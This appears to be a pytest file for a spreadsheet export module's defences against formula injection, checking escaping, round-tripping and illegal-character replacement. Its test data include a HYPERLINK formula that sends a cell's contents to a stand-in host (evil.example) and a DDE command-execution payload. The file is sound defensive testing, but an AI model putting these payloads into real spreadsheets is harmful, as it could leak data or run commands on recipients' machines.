"""Spreadsheet safety: no exported cell starts a formula, the escape round-trips, XLSX never refuses a text."""

from __future__ import annotations

import io

import openpyxl
import pytest

from core.spreadsheets import FORMULA_PREFIXES, escape_formula, replace_illegal_characters, unescape_formula

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "=1+1",
    "+31 6 1234",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    # A typed quote before a formula character: escaped once more, so the import can tell it apart.
    "'=x",
    "''+x",
]
HARMLESS = ["Anna", "", "06-1234", "a=b", " =1+1 met spatie", "'quote aan het begin", "\nregel", None, 3, 2.5]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_text_that_would_start_a_formula_gets_an_apostrophe(value):
    assert escape_formula(value) == "'" + value


@pytest.mark.parametrize("value", DANGEROUS)
def test_the_escape_round_trips_exactly(value):
    assert unescape_formula(escape_formula(value)) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_values_are_left_alone_both_ways(value):
    assert escape_formula(value) == value
    assert unescape_formula(value) == value


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_no_escaped_cell_starts_with_a_formula_character(prefix):
    assert not escape_formula(prefix + "A1").startswith(FORMULA_PREFIXES)


def test_characters_xlsx_cannot_hold_become_a_replacement_character():
    assert replace_illegal_characters("Anna\x00\x07 de Vries") == "Anna\ufffd\ufffd de Vries"
    assert replace_illegal_characters("tab\tand\nnewline") == "tab\tand\nnewline"
    assert replace_illegal_characters(7) == 7
    assert replace_illegal_characters(None) is None


def test_a_cleaned_hostile_text_can_be_written_to_xlsx_and_stays_text():
    value = escape_formula(replace_illegal_characters("=cmd|' /C calc'!A0\x01"))
    workbook = openpyxl.Workbook()
    workbook.active.append([value])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cell = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert cell.data_type == "s"
    assert cell.value == "'=cmd|' /C calc'!A0\ufffd"
